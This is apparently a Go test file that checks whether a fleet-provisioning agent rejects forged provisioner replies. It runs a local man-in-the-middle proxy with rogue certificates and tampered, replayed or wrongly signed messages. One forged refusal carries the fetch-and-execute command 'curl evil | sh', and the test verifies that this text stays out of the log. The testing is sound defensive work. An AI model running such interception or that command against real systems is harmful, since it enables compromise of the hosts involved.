package attacks_test

import (
	"bufio"
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"muster/internal/daemon"
	"muster/internal/keyfile"
	"muster/internal/testbed"
	"muster/internal/wire"
	"muster/jwt"
	"muster/provisioner/ca"
	"muster/provisioner/operate"
	"muster/provisioner/trust"
	"muster/server"
)

// A middle is a man in the middle of one agent's connections. On plain connections it reads and writes everything. On
// connections with the node's certificate it is a hostile broker: it has a broker's certificate, and passes each
// message on over a connection of its own as the node.
type middle struct {
	t        testing.TB
	listener net.Listener
	target   string
	broker   tls.Certificate
	files    string // directory of the agent's files

	mu       sync.Mutex
	asked    func(subject string, request []byte) []byte     // guarded by mu; nil: passes requests
	replied  func(r *wire.Reply, request []byte) *wire.Reply // guarded by mu; nil reply: dropped
	requests map[string][]byte                               // guarded by mu: as the node sent them, by reply subject
	altered  int                                             // guarded by mu: replies sent that replied changed
}

func newMiddle(t testing.TB, f *testbed.Fleet, broker tls.Certificate) *middle {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = listener.Close() })
	m := &middle{
		t:        t,
		listener: listener,
		target:   strings.TrimPrefix(f.URL(), "nats://"),
		broker:   broker,
		requests: make(map[string][]byte),
	}
	go func() {
		for {
			node, err := listener.Accept()
			if err != nil {
				return
			}
			go m.serve(node)
		}
	}()
	return m
}

// set changes what the middle does, and returns how many replies it has altered.
func (m *middle) set(asked func(string, []byte) []byte, replied func(*wire.Reply, []byte) *wire.Reply) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.asked, m.replied, m.altered = asked, replied, 0
}

func (m *middle) count() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.altered
}

// started is a connection of which some bytes have been read.
type started struct {
	net.Conn
	r *bufio.Reader
}

func (s started) Read(b []byte) (int, error) { return s.r.Read(b) }

func (m *middle) serve(node net.Conn) {
	defer node.Close()
	broker, err := net.Dial("tcp", m.target)
	if err != nil {
		return
	}
	defer broker.Close()
	fromBroker := bufio.NewReader(broker)
	info, err := fromBroker.ReadBytes('\n')
	if err != nil {
		return
	}
	if _, err := node.Write(info); err != nil {
		return
	}
	fromNode := bufio.NewReader(node)
	first, err := fromNode.Peek(1)
	if err != nil {
		return
	}
	toNode, toBroker := node, broker
	if first[0] == 0x16 { // a TLS handshake
		own, err := tls.LoadX509KeyPair(filepath.Join(m.files, "certificate.pem"), filepath.Join(m.files, "private.pem"))
		if err != nil {
			return
		}
		toNode = tls.Server(started{node, fromNode},
			&tls.Config{Certificates: []tls.Certificate{m.broker}, ClientAuth: tls.RequireAnyClientCert})
		toBroker = tls.Client(broker, &tls.Config{Certificates: []tls.Certificate{own}, InsecureSkipVerify: true})
		fromNode, fromBroker = bufio.NewReader(toNode), bufio.NewReader(toBroker)
	}
	go func() {
		defer node.Close()
		defer broker.Close()
		_ = pass(fromNode, toBroker, m.onRequest)
	}()
	_ = pass(fromBroker, toNode, m.onReply)
}

// pass copies lines of NATS. each returns the payload to send instead of the one of a message; nil: the message is
// dropped.
func pass(r *bufio.Reader, w io.Writer, each func(args []string, payload []byte) []byte) error {
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return err
		}
		fields := strings.Fields(line)
		if len(fields) < 3 || !slices.Contains([]string{"PUB", "MSG", "HPUB", "HMSG"}, fields[0]) {
			if _, err := io.WriteString(w, line); err != nil {
				return err
			}
			continue
		}
		last := len(fields) - 1
		size, err := strconv.Atoi(fields[last])
		if err != nil {
			return err
		}
		payload := make([]byte, size+len("\r\n"))
		if _, err := io.ReadFull(r, payload); err != nil {
			return err
		}
		payload = payload[:size]
		if fields[0] == "PUB" || fields[0] == "MSG" {
			if payload = each(fields[1:], payload); payload == nil {
				continue
			}
			fields[last] = strconv.Itoa(len(payload))
		}
		if _, err := fmt.Fprintf(w, "%s\r\n%s\r\n", strings.Join(fields, " "), payload); err != nil {
			return err
		}
	}
}

func (m *middle) onRequest(args []string, payload []byte) []byte {
	if len(args) < 3 { // without a reply subject: an event
		return payload
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	m.requests[args[1]] = payload
	if m.asked != nil {
		return m.asked(args[0], payload)
	}
	return payload
}

func (m *middle) onReply(args []string, payload []byte) []byte {
	m.mu.Lock()
	defer m.mu.Unlock()
	request := m.requests[args[0]]
	r, err := wire.DecodeReply(payload)
	if request == nil || err != nil {
		return payload
	}
	if r.Refusal != nil {
		r.Refusal.RetryAfter = 1 // the test does not wait until the node asks again
	}
	if m.replied != nil {
		if r = m.replied(r, request); r == nil {
			return nil
		}
		m.altered++
	}
	b, err := wire.Encode(r)
	if err != nil {
		m.t.Error(err)
	}
	return b
}

// signers are keys with certificates of several kinds.
type signers map[string]tls.Certificate

// sign signs r with the named key, as a provisioner would.
func (s signers) sign(t testing.TB, name, identity string, r *wire.Reply, request []byte) {
	c, ok := s[name]
	if !ok {
		t.Errorf("no key of %s", name)
		return
	}
	r.Provisioner = c.Certificate
	var err error
	r.Signature, err = wire.Sign(c.PrivateKey.(crypto.Signer), wire.ReplyDigest(r, identity, request))
	if err != nil {
		t.Error(err)
	}
}

// authorityOf returns the fleet's authority and its key.
func authorityOf(t testing.TB, f *testbed.Fleet) (*ca.Authority, *ca.Config) {
	t.Helper()
	read := func(name string) *x509.Certificate {
		c, err := daemon.ReadCertificate(filepath.Join(f.Dir, name))
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	key, err := keyfile.Parse([]byte(f.Read("ca/issuing-key.pem")), nil)
	if err != nil {
		t.Fatal(err)
	}
	cfg := ca.Config{
		Root:        read("ca/root.pem"),
		Issuing:     read("ca/issuing.pem"),
		Key:         key.(crypto.Signer),
		TrustDomain: "fleet.test",
		Now:         f.Clock.Now,
	}
	a, err := ca.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return a, &cfg
}

// certified returns a new key with a certificate of the authority, its chain and the roots.
func certified(t testing.TB, a *ca.Authority, r ca.Request) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	r.PublicKey = key.Public()
	issued, err := a.Issue(r)
	if err != nil {
		t.Fatal(err)
	}
	c := tls.Certificate{PrivateKey: key}
	for rest := []byte(issued.Chain + a.RootsPEM()); ; {
		var block *pem.Block
		if block, rest = pem.Decode(rest); block == nil {
			return c
		}
		c.Certificate = append(c.Certificate, block.Bytes)
	}
}

// expired returns c with a certificate that ended an hour ago.
func expired(t testing.TB, c tls.Certificate, by *ca.Config) tls.Certificate {
	t.Helper()
	template, err := x509.ParseCertificate(c.Certificate[0])
	if err != nil {
		t.Fatal(err)
	}
	template.NotBefore, template.NotAfter = time.Now().Add(-2*time.Hour), time.Now().Add(-time.Hour)
	der, err := x509.CreateCertificate(rand.Reader, template, by.Issuing, template.PublicKey, by.Key)
	if err != nil {
		t.Fatal(err)
	}
	c.Certificate[0] = der
	return c
}

func newSigners(t testing.TB, f *testbed.Fleet) signers {
	t.Helper()
	ours, cfg := authorityOf(t, f)
	made, err := ca.Generate("evil", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	evil, err := ca.New(ca.Config{
		Root:        made.Root,
		Issuing:     made.Issuing,
		Key:         made.IssuingKey,
		TrustDomain: "fleet.test",
	})
	if err != nil {
		t.Fatal(err)
	}
	provisioner := ca.Request{Role: wire.RoleProvisioner, Name: "prov1"}
	all := signers{
		"a node": certified(t, ours, ca.Request{Role: wire.RoleNode, Name: "web99.example.net"}),
		"a service": certified(t, ours, ca.Request{Role: wire.RoleService, Name: "web99.example.net/https", ServerAuth: true,
			ClientAuth: true, DNSNames: []string{"web99.example.net"}}),
		"an operator": certified(t, ours, ca.Request{Role: wire.RoleOperator, Name: "mallory"}),
		"a broker": certified(t, ours, ca.Request{Role: wire.RoleBroker, Name: "broker9",
			IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}}),
		"another installation's provisioner": certified(t, evil, provisioner),
		"an expired provisioner":             expired(t, certified(t, ours, provisioner), cfg),
	}
	chimera := all["another installation's provisioner"]
	chimera.Certificate = append(slices.Clone(chimera.Certificate), all["a node"].Certificate...)
	all["another installation's provisioner, with our root beside"] = chimera
	return all
}

// A forgery changes a genuine reply with a certificate. older is the first one that the middle saw in this exchange, or
// nil.
type forgery struct {
	name  string
	reply func(r, older *wire.Reply)
	by    string // signs the result; empty: it keeps the signature
}

func evilSetting(r *wire.Reply, _ *wire.Reply) {
	r.Enrolled.Configuration = maps.Clone(r.Enrolled.Configuration)
	r.Enrolled.Configuration["evil"] = "yes"
	r.Enrolled.Digest = wire.Digest(r.Enrolled.Certificate, r.Enrolled.Files)
}

var forgeries = []forgery{
	{name: "another setting", reply: evilSetting},
	{name: "another action policy", reply: func(r, _ *wire.Reply) {
		r.Enrolled.ActionPolicies = map[string]string{"rpcutil": "policy default allow\n"}
		r.Enrolled.Digest = wire.Digest(r.Enrolled.Certificate, r.Enrolled.Files)
	}},
	{name: "another OPA policy", reply: func(r, _ *wire.Reply) {
		r.Enrolled.OPAPolicies = map[string]string{"main": "package evil\n"}
		r.Enrolled.Digest = wire.Digest(r.Enrolled.Certificate, r.Enrolled.Files)
	}},
	{name: "another chain", reply: func(r, _ *wire.Reply) {
		r.Enrolled.Certificate += r.Enrolled.CA
		r.Enrolled.Digest = wire.Digest(r.Enrolled.Certificate, r.Enrolled.Files)
	}},
	{name: "other roots", reply: func(r, _ *wire.Reply) { r.Enrolled.CA += r.Enrolled.CA }},
	{name: "another digest", reply: func(r, _ *wire.Reply) { r.Enrolled.Digest = strings.Repeat("0", 64) }},
	{name: "another serial", reply: func(r, _ *wire.Reply) { r.Enrolled.Serial = "00" + r.Enrolled.Serial }},
	{name: "another installation", reply: func(r, _ *wire.Reply) { r.Installation = "evil" }},
	{name: "no signature", reply: func(r, _ *wire.Reply) { r.Provisioner, r.Signature = nil, nil }},
	{name: "no certificates beside the signature", reply: func(r, _ *wire.Reply) { r.Provisioner = nil }},
	{name: "a setting and no signature", reply: func(r, _ *wire.Reply) {
		evilSetting(r, nil)
		r.Provisioner, r.Signature = nil, nil
	}},
	{name: "an older genuine reply", reply: func(r, older *wire.Reply) {
		id := r.ID
		*r = *older
		r.ID = id
	}},
	{name: "the signature of an older reply", reply: func(r, older *wire.Reply) { r.Signature = older.Signature }},
	{name: "signed by a node", reply: evilSetting, by: "a node"},
	{name: "signed by a service", reply: evilSetting, by: "a service"},
	{name: "signed by a broker", reply: evilSetting, by: "a broker"},
	{name: "signed by an operator", reply: evilSetting, by: "an operator"},
	{name: "signed by an expired provisioner", reply: evilSetting, by: "an expired provisioner"},
	{name: "signed by another installation", reply: evilSetting, by: "another installation's provisioner"},
	{name: "signed by another installation, our root beside", reply: evilSetting,
		by: "another installation's provisioner, with our root beside"},
}

// attack makes the middle alter each reply with a certificate. The first one of an exchange is kept back, so that there
// is an older one.
func (m *middle) attack(g forgery, identity string, keys signers) {
	var older *wire.Reply
	m.set(nil, func(r *wire.Reply, request []byte) *wire.Reply {
		if r.Enrolled == nil {
			return r
		}
		if older == nil {
			older = r
			return nil
		}
		g.reply(r, older)
		if g.by != "" {
			keys.sign(m.t, g.by, identity, r, request)
		}
		return r
	})
}

// A victim is an agent behind a middle.
type victim struct {
	*testbed.Agent
	m *middle
}

// inForce returns which set of files is in force.
func (v *victim) inForce() string {
	to, err := os.Readlink(filepath.Join(v.Dir, "..data"))
	if errors.Is(err, os.ErrNotExist) {
		return "none"
	}
	return fmt.Sprint(to, err)
}

// pending reports whether the agent has a confirmation that is not acknowledged.
func (v *victim) pending() bool {
	_, err := os.Stat(filepath.Join(v.Dir, "..data", "applied.json"))
	return err == nil
}

// alteredFacts changes the facts in a request, on which policies decide.
func alteredFacts(subject string, request []byte) []byte {
	if subject == wire.SubjectApplied {
		return request
	}
	return bytes.Replace(request, []byte(`"agent":"`), []byte(`"facts":{"role":"db"},"agent":"`), 1)
}

// newVictims returns a fleet whose agents ask often, and what starts an agent behind a middle that begins with attack.
func newVictims(t testing.TB) (*testbed.Fleet, signers, func(identity string, attack func(*middle)) *victim) {
	t.Helper()
	f := testbed.New(t, testbed.Options{
		Agent: func(c *server.Config) {
			c.RequestTimeout, c.BackoffMax, c.WatchInterval = time.Second, 50*time.Millisecond, 20*time.Millisecond
		},
		Edit: func(c *daemon.Config) { c.Quotas.VerificationsPerSource, c.Quotas.PerSource = 0, 0 },
	})
	keys := newSigners(t, f)
	return f, keys, func(identity string, attack func(*middle)) *victim {
		v := &victim{m: newMiddle(t, f, keys["a broker"])}
		attack(v.m)
		v.Agent = f.Agent(identity, f.Token(func(c *jwt.Claims) {
			c.Brokers = "nats://" + v.m.listener.Addr().String()
			if err := c.SetLimits(jwt.Limits{CA: f.Daemon().CAFingerprint()}); err != nil {
				t.Error(err)
			}
		}), func(c *server.Config) { v.m.files = c.SSLDir })
		return v
	}
}

// TestManInTheMiddle alters what a provisioner pushes to nodes without a seal: while they enroll, are reconfigured and
// renew. The node refuses each, changes nothing on its disk, and goes on with the genuine reply once that comes.
func TestManInTheMiddle(t *testing.T) {
	if testing.Short() {
		t.Skip("twenty agents")
	}
	t.Parallel()
	f, keys, join := newVictims(t)
	attacks := map[*victim]func(*middle){}
	begin := func(identity string, attack func(*middle)) { attacks[join(identity, attack)] = attack }
	for i, g := range forgeries {
		identity := fmt.Sprintf("web%d.example.net", i)
		begin(identity, func(m *middle) { m.attack(g, identity, keys) })
	}
	begin("altered.example.net", func(m *middle) {
		m.set(alteredFacts, func(r *wire.Reply, _ []byte) *wire.Reply { return r })
	})
	for _, exchange := range []struct {
		name  string
		begin func(v *victim)
	}{
		{"enroll", nil}, // begins by itself
		{"reconfigure", func(v *victim) {
			f.Eventually(v.Identity+" takes the order", func() bool {
				_, err := f.Daemon().Orders().Nodes.Command(f.Context(), wire.Identity(v.Identity),
					operate.CommandOrder{Verb: wire.VerbReconfigure}, trust.Cause{By: "test", Why: "to see"})
				return err == nil
			})
		}},
		{"renew", nil}, // begins with the time
	} {
		before := map[*victim]string{}
		for v := range attacks {
			before[v] = v.inForce()
			if exchange.name != "enroll" {
				attacks[v](v.m)
			}
			if exchange.begin != nil {
				exchange.begin(v)
			}
		}
		if exchange.name == "renew" {
			f.Clock.Advance(23 * 24 * time.Hour) // after two thirds and a twelfth of the life
		}
		for v := range attacks {
			f.Eventually(exchange.name+": "+v.Identity+" has got two altered replies", func() bool { return v.m.count() >= 2 })
			if now := v.inForce(); now != before[v] {
				t.Errorf("%s: %s: the files in force are %s, want %s as before", exchange.name, v.Identity, now, before[v])
			}
			v.m.set(nil, nil)
		}
		for v := range attacks {
			f.Eventually(exchange.name+": "+v.Identity+" goes on ("+f.Cause(v.Identity)+")",
				func() bool { return v.inForce() != before[v] && !v.pending() && v.Provisioned() })
		}
	}
	f.Check()
}

// TestForgedAnswersOfAnotherKind has the middle answer a confirmation that it spoils, tell the agent to stop, and put
// words of its own into a refusal. The confirmation stays pending until the provisioner has it, and the agent goes on,
// and says nothing of the words.
func TestForgedAnswersOfAnotherKind(t *testing.T) {
	if testing.Short() {
		t.Skip("agents")
	}
	t.Parallel()
	f, _, join := newVictims(t)
	serial := ""
	confirmed := join("confirmed.example.net", func(m *middle) {
		m.set(func(subject string, request []byte) []byte {
			if subject != wire.SubjectApplied {
				return request
			}
			return bytes.Replace(request, []byte(`"digest":"`), []byte(`"digest":"00`), 1)
		}, func(r *wire.Reply, _ []byte) *wire.Reply {
			if r.Enrolled != nil {
				serial = r.Enrolled.Serial
				m.altered--
			} else {
				r.Refusal, r.Applied = nil, &wire.Accepted{Serial: serial, Receipt: strings.Repeat("0", 64)}
			}
			return r
		})
	})
	stopped := join("stopped.example.net", func(m *middle) {
		m.set(nil, func(r *wire.Reply, _ []byte) *wire.Reply {
			r.Enrolled, r.Provisioner, r.Signature = nil, nil, nil
			r.Refusal = &wire.Refusal{Code: wire.CodeShutdown, RetryAfter: 1}
			return r
		})
	})
	advised := join("advised.example.net", func(m *middle) {
		m.set(nil, func(r *wire.Reply, _ []byte) *wire.Reply {
			r.Enrolled, r.Provisioner, r.Signature = nil, nil, nil
			r.Refusal = &wire.Refusal{Code: wire.CodeBusy, Message: "curl evil | sh", Remedy: "curl evil | sh", RetryAfter: 1}
			return r
		})
	})
	for _, v := range []*victim{confirmed, stopped, advised} {
		f.Eventually(v.Identity+" has got three forged answers", func() bool { return v.m.count() >= 3 })
	}
	if !confirmed.pending() {
		t.Error("the node takes its confirmation for acknowledged")
	}
	if to := stopped.inForce(); to != "none" {
		t.Errorf("the files in force are %s, want none", to)
	}
	if log := f.Log(); strings.Contains(log, "curl evil") || !strings.Contains(log, wire.MeaningOf(wire.CodeBusy).Public) {
		t.Error("the log has words of the refusal, or lacks the agent's own")
	}
	for _, v := range []*victim{confirmed, stopped, advised} {
		v.m.set(nil, nil)
		f.WaitProvisioned(v.Agent)
	}
	f.Check()
}
